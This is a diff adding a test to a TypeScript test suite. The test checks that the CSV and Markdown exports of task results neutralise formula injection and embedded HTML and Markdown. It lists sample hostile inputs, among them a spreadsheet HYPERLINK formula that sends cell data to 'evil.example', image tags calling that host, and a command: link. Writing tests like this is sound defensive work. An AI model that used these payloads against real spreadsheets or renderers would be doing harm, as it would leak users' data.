@@ -163,6 +163,22 @@ describe('summaries', () => {
     const odd = summarize([{ ...result(task(0), 'x'), task: 'a,"b"' }]);
     expect(toCsv(odd).split('\n')[1]?.startsWith('"a,""b""",1,0,0,')).toBe(true);
   });
+
+  it('exports task names from a task file as data: no spreadsheet formula, no Markdown link, image or HTML', () => {
+    const names = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '<img src=https://evil.example/t.png>', '![x](https://evil.example/p.png)', '[run](command:r1ci.solve)'];
+    const s = summarize(names.map((name, i) => ({ ...result(task(i), 'x'), id: `q${i}`, task: name })));
+    const cells = toCsv(s)
+      .trim()
+      .split('\n')
+      .slice(1, -1)
+      .map((line) => (line.startsWith('"') ? line.slice(1) : line));
+    // A spreadsheet runs a cell that starts with = + - @ (or a tab/CR before one) as a formula.
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const md = toMarkdown(s);
+    expect(md).not.toMatch(/(?<!\\)<img/);
+    expect(md).not.toMatch(/(?<!\\)\[(?:x|run)\]\(/);
+    expect(md).toContain('\\<img src=https://evil.example/t.png>');
+  });
 });
 
 describe('partial credit', () => {
